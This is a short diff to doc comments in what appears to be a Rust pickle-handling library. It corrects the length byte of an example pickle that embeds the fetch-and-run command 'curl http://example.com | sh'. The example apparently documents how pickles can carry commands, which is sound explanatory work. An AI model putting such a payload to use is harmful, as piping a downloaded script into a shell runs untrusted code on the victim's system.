@@ -9,7 +9,7 @@
 //!
 //! ## Example
 //! ```pickle
-//! b'\x80\x04\x8c\x1bcurl http://example.com | sh.'
+//! b'\x80\x04\x8c\x1ccurl http://example.com | sh.'
 //! ```
 //!
 //! ```pickle
